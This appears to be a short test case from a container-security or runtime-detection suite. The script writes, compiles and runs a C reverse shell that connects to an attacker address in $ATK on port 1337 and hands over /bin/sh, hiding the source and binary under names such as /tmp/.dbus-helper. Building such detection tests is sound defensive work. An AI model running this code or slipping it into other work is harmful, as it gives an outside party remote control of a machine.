# SPDX-License-Identifier: MIT
# technique: a program compiled in the container connects and execs a shell
# level: critical
# quick: yes
cat >/tmp/.i.c <<X
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(1337)};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, "$ATK", &a.sin_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) return 1;
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	execl("/bin/sh", "sh", (char *)0);
	return 1;
}
X
gcc -o /tmp/.dbus-helper /tmp/.i.c
t0
/tmp/.dbus-helper
